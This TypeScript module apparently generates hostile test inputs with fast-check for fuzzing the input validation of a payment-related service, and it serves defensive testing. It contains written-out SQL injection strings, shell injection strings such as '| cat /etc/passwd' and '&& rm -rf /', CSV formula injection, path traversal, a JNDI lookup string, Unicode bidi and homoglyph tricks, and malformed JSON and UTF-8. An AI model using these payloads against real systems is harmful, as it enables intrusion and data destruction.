// Hostile strings for every field a target fills: SQL and shell metacharacters, Unicode tricks
// (right-to-left overrides, zero-width joiners, homoglyph digits, NUL, lone surrogates where the
// transport carries them), CSV-formula and path tricks, and lengths at and past each limit. Each
// generator mixes them into otherwise plausible values, so that a value gets past the first check
// and reaches the deeper ones.
import fc from 'fast-check';

/** SQL: quotes, comments, dollar quoting, backslashes, statement separators. */
export const sqlAtoms = [
  "'", "''", '"', "'; DROP TABLE payouts; --", '" OR 1=1 --', "' OR '1'='1", '$$', '$tag$', '\\', '\\\\', "\\'", ';', '--', '/*', '*/', '%', '_',
  'E\'\\x00\'', "'||pg_sleep(5)||'", 'NULL', 'null', '::text', '\\.', '\\N',
] as const;

/** Shell: substitutions, pipes, redirections, globbing, newlines. */
export const shellAtoms = ['$(id)', '`id`', '${IFS}', '| cat /etc/passwd', '&& rm -rf /', '; reboot', '> /tmp/x', '*', '~', '!!', '\n', '\r\n', '\t', '$HOME', '%0a'] as const;

/** Unicode: bidi overrides, zero-width characters, BOM, NUL, lone surrogates, combining marks, non-characters. */
export const unicodeAtoms = [
  '\u202E', '\u202D', '\u2066', '\u2069', '\u200D', '\u200B', '\u200C', '\u2060', '\uFEFF', '\u0000', '\uD800', '\uDFFF', '\uDBFF\uDFFF',
  '\u0301', '\u00A0', '\u2028', '\u2029', '\uFFFD', '\uFFFF', '\u0085', '\u001B[31m', 'ǅ', 'İ', 'ß', '\u{1F4B0}', '\u{E0041}',
] as const;

/** Formulas, paths, templates, markup, numbers that are not quite numbers. */
export const miscAtoms = [
  '=1+1', "=cmd|' /C calc'!A0", '+254', '-1', '@SUM(A1)', '../../etc/passwd', '%2e%2e%2f', '${jndi:ldap://x/a}', '{{7*7}}', '<script>', ']]>', '&amp;', '<!--',
  'NaN', 'Infinity', '-0', '1e309', '0x10', '١٠٠', '１００', '1,000.00', '1 000', '1_000', '٫', '.', ',', ' ', '',
] as const;

export const hostileAtoms: readonly string[] = [...sqlAtoms, ...shellAtoms, ...unicodeAtoms, ...miscAtoms];

/** Digits that look like 0-9 and are not: Arabic-Indic, Extended Arabic-Indic, fullwidth, Devanagari, mathematical bold. */
export const homoglyphDigits: readonly (readonly string[])[] = [
  ['٠', '١', '٢', '٣', '٤', '٥', '٦', '٧', '٨', '٩'],
  ['۰', '۱', '۲', '۳', '۴', '۵', '۶', '۷', '۸', '۹'],
  ['０', '１', '２', '３', '４', '５', '６', '７', '８', '９'],
  ['०', '१', '२', '३', '४', '५', '६', '७', '८', '९'],
  ['𝟎', '𝟏', '𝟐', '𝟑', '𝟒', '𝟓', '𝟔', '𝟕', '𝟖', '𝟗'],
];

/** Letters that look like Latin ones: Cyrillic and Greek. */
const homoglyphLetters: Readonly<Record<string, string>> = { a: 'а', c: 'с', e: 'е', o: 'о', p: 'р', x: 'х', y: 'у', A: 'А', B: 'В', E: 'Е', K: 'К', M: 'М', O: 'Ο', P: 'Р', T: 'Т' };

export const hostileAtom: fc.Arbitrary<string> = fc.constantFrom(...hostileAtoms);

/** Any string fast-check makes, including every code point (lone surrogates added by atoms). */
const anyText = (maxLength: number) => fc.oneof(
  fc.string({ maxLength }),
  fc.string({ unit: 'binary', maxLength }),
  fc.string({ unit: 'grapheme', maxLength }),
);

/** A string made of hostile atoms and arbitrary text, at most about `maxLength` characters. */
export const hostileString = (maxLength = 64): fc.Arbitrary<string> =>
  fc.array(fc.oneof({ weight: 3, arbitrary: hostileAtom }, { weight: 1, arbitrary: anyText(Math.min(maxLength, 16)) }), { minLength: 1, maxLength: 6 })
    .map((parts) => parts.join('').slice(0, Math.max(maxLength, 1)));

/** `length` characters that do not compress (a btree index entry holds about 2.7 kB after compression). */
export function incompressible(length: number): string {
  let out = '';
  for (let x = 0x2545f491; out.length < length;) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    out += (x >>> 0).toString(36);
  }
  return out.slice(0, length);
}

/** A string of exactly `length` characters of `unit` (a limit, one under, one over, far over). */
export const stringOfLength = (lengths: readonly number[], unit = 'a'): fc.Arbitrary<string> => fc.constantFrom(...lengths).map((n) => unit.repeat(n));

/** Lengths around a limit: at it, one either side, and far past it. */
export const around = (limit: number): number[] => [Math.max(limit - 1, 0), limit, limit + 1, limit * 4 + 7];

/** `value` with its ASCII digits replaced by one family of look-alikes (all or some of them). */
export const homoglyphed = (value: string): fc.Arbitrary<string> =>
  fc.tuple(fc.constantFrom(...homoglyphDigits), fc.boolean(), fc.nat()).map(([digits, all, salt]) => {
    let n = 0;
    return value.replace(/[0-9]/g, (d) => ((all || (n++ + salt) % 2 === 0) ? digits[Number(d)]! : d));
  });

/** `value` with one hostile atom put in at some place (front, back or inside). */
export const withAtom = (value: string): fc.Arbitrary<string> =>
  fc.tuple(hostileAtom, fc.nat({ max: Math.max(value.length, 0) })).map(([atom, at]) => `${value.slice(0, at)}${atom}${value.slice(at)}`);

/** `value` with Latin letters swapped for look-alikes. */
const lookalike = (value: string): string => value.replace(/[aceopxyABEKMOPT]/g, (c) => homoglyphLetters[c] ?? c);

/**
 * A plausible value, often as it is, else turned hostile: an atom put in, digits swapped for
 * look-alikes, letters swapped, wrapped in bidi overrides or spaces, cut, or replaced outright.
 */
export const mutated = (value: string, maxLength = 64): fc.Arbitrary<string> => fc.oneof(
  { weight: 6, arbitrary: fc.constant(value) },
  { weight: 2, arbitrary: withAtom(value) },
  { weight: 1, arbitrary: homoglyphed(value) },
  { weight: 1, arbitrary: fc.constant(lookalike(value)) },
  { weight: 1, arbitrary: fc.constantFrom(`\u202E${value}`, `${value}\u200D`, ` ${value} `, `\uFEFF${value}`, `${value}\u0000`, value.toUpperCase(), value.toLowerCase(), `${value}${value}`) },
  { weight: 1, arbitrary: fc.nat({ max: Math.max(value.length - 1, 0) }).map((n) => value.slice(0, n)) },
  { weight: 1, arbitrary: hostileString(maxLength) },
);

/** A JSON value of any shape (numbers where strings belong, nested objects, arrays). */
export const anyJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 3 }),
  fc.constantFrom(null, true, false, 0, -0, 1e308, -1, 100, 100.5, 2 ** 53 + 2, [], {}, [[]], { '': '' }),
  hostileString(),
);

/** A string value or a value of another JSON type where a string belongs. */
export const stringOrNot = (value: fc.Arbitrary<string>): fc.Arbitrary<unknown> => fc.oneof({ weight: 8, arbitrary: value }, { weight: 1, arbitrary: anyJson });

/** `depth` nested arrays or objects around `inner`, as JSON text. */
export function nested(depth: number, inner = '0', kind: 'array' | 'object' = 'array'): string {
  return kind === 'array' ? `${'['.repeat(depth)}${inner}${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}${inner}${'}'.repeat(depth)}`;
}

/** Deep nesting as JSON text: moderate, deep, and deeper than any sane parser recursion. */
export const deepJson: fc.Arbitrary<string> = fc.tuple(fc.constantFrom(2, 64, 1_000, 10_000, 100_000), fc.constantFrom('array', 'object') as fc.Arbitrary<'array' | 'object'>)
  .map(([depth, kind]) => nested(depth, '"x"', kind));

/** Bytes that are not valid UTF-8 (stray continuation bytes, overlong forms, surrogates encoded, 0xFF). */
export const invalidUtf8: fc.Arbitrary<Buffer> = fc.constantFrom(
  Buffer.from([0xff]), Buffer.from([0xc0, 0xaf]), Buffer.from([0xed, 0xa0, 0x80]), Buffer.from([0x80]), Buffer.from([0xe2, 0x82]), Buffer.from([0xf4, 0x90, 0x80, 0x80]), Buffer.from([0x00]),
);

/** Random bytes, sometimes with invalid UTF-8 in them. */
export const anyBytes = (maxLength = 256): fc.Arbitrary<Buffer> => fc.oneof(
  fc.uint8Array({ maxLength }).map((b) => Buffer.from(b)),
  fc.tuple(fc.string({ maxLength }), invalidUtf8, fc.string({ maxLength: 8 })).map(([a, bad, b]) => Buffer.concat([Buffer.from(a), bad, Buffer.from(b)])),
);

/**
 * Raw JSON text with one member given twice (the first occurrence of `"key":` gets a copy with
 * another value before it); JSON.parse keeps the last one, other parsers the first.
 */
export function duplicateKey(json: string, key: string, firstValue: string): string {
  const at = json.indexOf(`"${key}":`);
  return at < 0 ? json : `${json.slice(0, at)}"${key}":${firstValue},${json.slice(at)}`;
}

/** Replaces the JSON string value of the first `"key":"…"` with raw JSON text (a number where a string belongs). */
export function rawValue(json: string, key: string, raw: string): string {
  return json.replace(new RegExp(`"${key}":"(?:[^"\\\\]|\\\\.)*"`), `"${key}":${raw}`);
}

/** Bytes of `original` changed: some flipped, a run cut out, a run repeated, cut short, or garbage appended. */
export const mutatedBytes = (original: Buffer): fc.Arbitrary<Buffer> => fc.oneof(
  fc.array(fc.tuple(fc.nat({ max: Math.max(original.length - 1, 0) }), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 8 }).map((flips) => {
    const b = Buffer.from(original);
    for (const [at, x] of flips) b[at] = b[at]! ^ x;
    return b;
  }),
  fc.tuple(fc.nat({ max: original.length }), fc.nat({ max: 64 })).map(([at, n]) => Buffer.concat([original.subarray(0, at), original.subarray(Math.min(at + n, original.length))])),
  fc.tuple(fc.nat({ max: original.length }), fc.nat({ max: 64 })).map(([at, n]) => Buffer.concat([original.subarray(0, at + n), original.subarray(at)])),
  fc.nat({ max: original.length }).map((n) => original.subarray(0, n)),
  anyBytes(64).map((tail) => Buffer.concat([original, tail])),
);
